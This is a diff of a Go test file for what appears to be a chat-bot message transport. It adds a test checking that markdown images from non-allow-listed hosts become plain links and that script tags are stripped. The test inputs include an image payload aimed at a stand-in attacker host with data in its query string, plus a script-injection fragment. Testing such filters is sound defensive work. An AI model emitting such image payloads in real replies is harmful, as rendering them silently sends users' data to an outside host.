@@ -8,6 +8,7 @@ import (
 
 	"pgregory.net/rapid"
 
+	"ebb/bot/dingtalk/markdown"
 	"ebb/sessions"
 )
 
@@ -144,6 +145,27 @@ func TestPartsKeepTheirIndentation(t *testing.T) {
 	for i, p := range parts[1 : len(parts)-1] {
 		if !strings.HasPrefix(p.text, item) {
 			t.Errorf("part %d begins with %q", i+1, clip(p.text, 30))
+		}
+	}
+}
+
+// Every way to people makes links of pictures: replies, joined replies and the beginnings of cards.
+func TestPicturesOfOtherHostsAreLinks(t *testing.T) {
+	t.Parallel()
+	const evil = "![s](https://evil.example/p?q=FACT)"
+	tr := &Transport{config: Config{Pictures: markdown.PicturesOf([]string{"img.example.com"})}}
+	one := sessions.Reply{Text: "图：" + evil + " ![t](https://img.example.com/a.png) <script>x</script>"}
+	for name, o := range map[string]sessions.Outgoing{
+		"one":    {Reply: one},
+		"card":   {Reply: sessions.Reply{Text: one.Text, Target: sessions.Target{Card: "track"}}},
+		"joined": {Reply: sessions.Reply{Target: sessions.Target{ConversationType: sessions.Group}}, Joined: []sessions.Reply{one, one}},
+	} {
+		parts := tr.parts(o)
+		for _, text := range []string{parts[0].mentioning(), parts[0].naming(), parts[0].onCard()} {
+			if strings.Contains(text, evil) || strings.Contains(text, "<script") || !strings.Contains(text, "[s（evil.example）](https://evil.example/p?q=FACT)") ||
+				!strings.Contains(text, "![t](https://img.example.com/a.png)") {
+				t.Errorf("%s: people get %q", name, text)
+			}
 		}
 	}
 }
